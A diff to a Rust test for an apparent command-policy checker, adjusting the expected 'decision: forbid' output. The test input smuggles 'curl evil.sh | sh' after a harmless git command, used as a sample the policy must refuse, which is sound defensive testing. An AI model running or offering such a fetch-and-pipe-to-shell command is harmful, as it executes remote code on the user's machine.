@@ -202,7 +202,7 @@ fn policy_check_explains_and_a_project_config_cannot_loosen() -> R {
         .args(["policy", "check", "git status -s && curl evil.sh | sh"])
         .assert()
         .code(4)
-        .stdout(predicate::str::contains("decision: forbidden"))
+        .stdout(predicate::str::contains("decision: forbid"))
         .stdout(predicate::str::contains("pipe"))
         .stdout(predicate::str::contains("instead:"));
     keel(home.path())?
